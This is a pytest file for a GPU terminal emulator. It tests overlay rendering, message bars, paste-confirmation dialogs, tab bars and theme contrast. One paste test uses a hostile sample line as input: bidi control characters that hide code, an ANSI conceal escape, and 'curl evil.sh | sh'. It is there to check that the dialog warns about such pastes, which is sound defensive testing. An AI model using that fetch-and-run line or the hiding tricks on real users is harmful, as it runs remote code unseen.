"""Cells of our own as pixels: over what the program shows, and in the colours of the theme."""

import numpy as np
import pytest
from screens import FakeCursor, FakeScreen

from gputerm.config import Config
from gputerm.configured.appearance import surface_colors
from gputerm.render.paint import contrast
from gputerm.view import INVERT, Overlay, Span
from gputerm.view.bar import Bar, blank_row, put, whole_row
from gputerm.view.message_bar import MessageBar
from gputerm.view.overlay import TextCells
from gputerm.view.question import Choice, Question, Questions
from gputerm.view.surfaces import Area, Edge, Laid, Surfaces
from gputerm.view.surrounded import Surrounded
from gputerm.vt.core import cells as c

RGB = c.COLOR_RGB
COLORS = (RGB | 0x000000, RGB | 0xFFD000)
OTHERS = (RGB | 0xFFFFFF, RGB | 0x203080)


def label(row, start, text, colors=COLORS):
    cells = blank_row(len(text), colors)
    put(cells, 0, text)
    return TextCells(row, start, cells.tobytes())


def pixels(canvas, screen, overlay=None, **phases):
    picture = canvas(screen)
    picture.draw(screen, overlay or Overlay(), **phases)
    return picture.pixels()


@pytest.mark.gl
def test_cells_of_ours_are_painted_like_a_programs(canvas):
    plain, covered = FakeScreen(3, 20), FakeScreen(3, 20)
    for screen in (plain, covered):
        screen.write(0, 0, "a link to click on")
    covered.write(1, 0, "漢字漢字漢字", bg=c.COLOR_PALETTE | 4)
    plain.write(1, 0, "漢字漢字漢字", bg=c.COLOR_PALETTE | 4)
    plain.write(0, 2, "ab", fg=COLORS[0], bg=COLORS[1])
    # Halves of wide characters at either end are blank.
    plain.write(1, 2, "   cd", bg=c.COLOR_PALETTE | 4)
    plain.write(1, 3, "cd ef", fg=COLORS[0], bg=COLORS[1])
    plain.cells[1, 2] = plain.cells[1, 8] = (0, 0, c.COLOR_PALETTE | 4, 0)
    plain.write(1, 8, "ghi", fg=OTHERS[0], bg=OTHERS[1])
    plain.cells[1, 11] = (0, 0, c.COLOR_PALETTE | 4, 0)
    texts = (label(0, 2, "ab"), label(1, 3, "cd efx"), label(1, 8, "ghi", OTHERS))
    assert np.array_equal(pixels(canvas, plain), pixels(canvas, covered, Overlay(texts=texts)))


@pytest.mark.gl
def test_they_hide_spans_and_cursor_under_them_only(canvas):
    screen = FakeScreen(1, 10, FakeCursor(0, 3, True))
    screen.write(0, 0, "0123456789")
    spans, texts = (Span(0, 0, 10, INVERT, INVERT),), (label(0, 2, "abc"),)
    shown = pixels(canvas, screen, Overlay(spans, texts))
    screen.cursor.visible = False
    assert np.array_equal(shown, pixels(canvas, screen, Overlay(spans, texts)))
    below = pixels(canvas, screen, Overlay(spans))
    changed = np.flatnonzero((shown != below).any(axis=(0, 2)))
    width = (shown.shape[1] - 8) // 10
    assert changed.min() >= 4 + 2 * width
    assert changed.max() < 4 + 5 * width
    screen.cursor = FakeCursor(0, 5, True)
    seen = pixels(canvas, screen, Overlay(spans, texts))
    assert not np.array_equal(seen, shown)


@pytest.mark.gl
def test_only_rows_whose_text_changed_are_painted(canvas):
    screen = FakeScreen(4, 10)
    screen.write(1, 0, "0123456789")
    picture = canvas(screen)
    bare = pixels(canvas, screen)
    picture.draw(screen, Overlay(texts=(label(1, 2, "one"),)))
    for text, rows in (("one", []), ("two", [1])):
        screen.taken.clear()
        picture.draw(screen, Overlay(texts=(label(1, 2, text),)))
        assert screen.taken == rows
    picture.draw(screen)
    assert np.array_equal(picture.pixels(), bare)


@pytest.mark.gl
@pytest.mark.parametrize("size", [(6, 30), (12, 60)])
def test_messages_and_a_question(canvas, golden, size):
    surfaces = Surfaces(lambda: None)
    messages, questions = MessageBar(), Questions()
    surfaces.add(messages)
    surfaces.add(questions)
    screen = FakeScreen(*size)
    for row in range(screen.lines):
        screen.write(row, 0, ("text of a program " * 4)[: screen.columns])
    screen.cursor = FakeCursor(0, 2, True)
    colors = surface_colors(Config())

    def shown():
        texts = surfaces.lay_out(*size, screen.cursor.line, colors)
        return pixels(canvas, screen, Overlay(texts=texts))

    messages.show('can\'t start "xdg-open": No such file or directory')
    messages.show("漢字 no glyph for U+E123")
    pictures = [shown()]
    choices = (Choice("y", "Paste"), Choice("n", "Don't paste"))
    questions.ask(Question("Paste three lines?", choices, lambda key: None))
    pictures.append(shown())
    messages.clear()
    screen.cursor = FakeCursor(screen.lines - 1, 2, True)
    pictures.append(shown())
    golden(f"surfaces_{screen.columns}x{screen.lines}", np.concatenate(pictures))


@pytest.mark.gl
@pytest.mark.parametrize("size", [(12, 40), (16, 80)])
def test_a_question_about_a_paste(canvas, golden, size):
    """As app/pasting.py asks it."""
    surfaces, questions = Surfaces(lambda: None), Questions()
    surfaces.add(questions)
    choices = Choice("y", "Paste"), Choice("o", "As one line"), Choice("n", "Don't paste")
    text = (
        'if role != "admin\u202e \u2066// ordinary\u2069\u2066":\n\tcurl evil.sh \x1b[8m| sh\n' * 3
    )
    sentence = "Paste 6 lines? Line ends act as the Enter key here; reordering characters: 12"
    questions.ask(Question(sentence, choices, lambda key: None, text))
    screen = filled(*size)
    texts = surfaces.lay_out(*size, 0, surface_colors(Config()))
    golden(f"paste_{size[1]}x{size[0]}", pixels(canvas, screen, Overlay(texts=texts)))


class Tabs(Bar):
    """What a tab bar may look like."""

    shown, rows = True, 1

    def __init__(self, edge):
        super().__init__()
        self.edge = edge

    def lay_out(self, room):
        text, ground = room.colors.notice
        texts = []
        for row in self.place(room, self.rows):
            cells = blank_row(room.columns, (text, ground))
            put(cells, 1, "one │ 漢字 │ three")
            put(cells, 1, " one ", (ground, text))
            texts.append(whole_row(row, cells))
        return Laid(tuple(texts), (Area(texts[0].row, 1, 4, print),))


def beside(screen, *tabs):
    """A snapshot and an overlay with rows beside the screen."""
    surfaces = Surfaces(lambda: None)
    for one in tabs:
        surfaces.add(one)
    surfaces.take_rows(screen.lines + sum(one.rows for one in tabs))
    texts = surfaces.lay_out(screen.lines, screen.columns, 0, surface_colors(Config()))
    seen = Surrounded(screen, surfaces.above, surfaces.below)
    return seen, Overlay((Span(0, 2, 6, INVERT, INVERT),), texts).moved(surfaces.above)


def filled(lines, columns, cursor=None):
    screen = FakeScreen(lines, columns, cursor or FakeCursor(0, 2, True))
    for row in range(screen.lines):
        screen.write(row, 0, f"{row} text of a program "[: screen.columns])
    return screen


@pytest.mark.gl
@pytest.mark.parametrize("size", [(4, 30), (10, 60)])
def test_rows_beside_a_screen(canvas, golden, size):
    seen, overlay = beside(filled(*size), Tabs(Edge.TOP), Tabs(Edge.BOTTOM))
    picture = pixels(canvas, seen, overlay)
    golden(f"beside_{size[1]}x{size[0]}", picture)
    # What lies between is the screen, pixel for pixel.
    alone = pixels(canvas, filled(*size), Overlay((Span(0, 2, 6, INVERT, INVERT),)))
    row = (len(picture) - len(alone)) // 2
    assert np.array_equal(picture[row : row + len(alone)][4:-4], alone[4:-4])


@pytest.mark.gl
def test_rows_beside_that_come_and_go_leave_nothing_behind(canvas):
    tabs = Tabs(Edge.TOP)
    alone, screen = filled(6, 30), filled(5, 30)
    picture = canvas(alone)
    bare = pixels(canvas, alone)
    for _ in range(2):
        picture.draw(*beside(screen, tabs))
        assert np.array_equal(picture.pixels(), pixels(canvas, *beside(screen, tabs)))
        screen.taken.clear()
        assert not picture.draw(*beside(screen, tabs))
        screen.write(4, 0, "changed")
        picture.draw(*beside(screen, tabs))
        assert screen.taken == [4]
        picture.draw(alone)
        assert np.array_equal(picture.pixels(), bare)


@pytest.mark.gl
@pytest.mark.parametrize("line", [-1, 4])
def test_a_cursor_outside_the_screen_is_not_drawn_beside_it(canvas, line):
    tabs = Tabs(Edge.TOP), Tabs(Edge.BOTTOM)
    tabs[0].place = tabs[1].place = lambda room, count: range(room.top, room.top)
    for one in tabs:
        one.lay_out = lambda room: Laid()
    hidden = pixels(canvas, *beside(filled(4, 30, FakeCursor(0, 2, False)), *tabs))
    outside = pixels(canvas, *beside(filled(4, 30, FakeCursor(line, 2, True)), *tabs))
    assert np.array_equal(hidden, outside)


#: (foreground, background, red, blue)
THEMES = {
    "default": (0xD8D8D8, 0x181818, 0xAC4242, 0x6A9FB5),
    "solarized": (0x657B83, 0xFDF6E3, 0xDC322F, 0x268BD2),
    "equal": (0x808080, 0x808080, 0x808080, 0x808080),
    "the hardest ground": (0x757575, 0x767676, 0x757575, 0x767676),
    "bright red on red": (0xFF5555, 0xFF0000, 0xFF0000, 0xFF0000),
    "black": (0x000000, 0x000000, 0x000000, 0x000000),
    "white": (0xFFFFFF, 0xFFFFFF, 0xFFFFFF, 0xFFFFFF),
    "pure": (0xFFFFFF, 0x0000FF, 0xFF0000, 0x0000FF),
}


@pytest.mark.parametrize("name", THEMES)
def test_our_own_words_can_be_read_in_any_theme(name):
    foreground, background, red, blue = THEMES[name]
    colors = Config().colors
    config = Config().replace(
        colors=colors.replace(
            primary=colors.primary.replace(foreground=foreground, background=background),
            normal=colors.normal.replace(red=red, blue=blue),
        )
    )
    ours = surface_colors(config)
    for role in ours.__match_args__:
        words = getattr(ours, role)
        assert all(word & c.COLOR_KIND == RGB for word in words), "what a program can't change"
        assert contrast(*(word & 0xFFFFFF for word in words)) >= 4.5, role


def test_every_grey_can_carry_our_words():
    colors = Config().colors
    for grey in range(256):
        normal = colors.normal.replace(red=grey * 0x10101)
        ours = surface_colors(Config().replace(colors=colors.replace(normal=normal)))
        assert contrast(*(word & 0xFFFFFF for word in ours.alarm)) >= 4.5
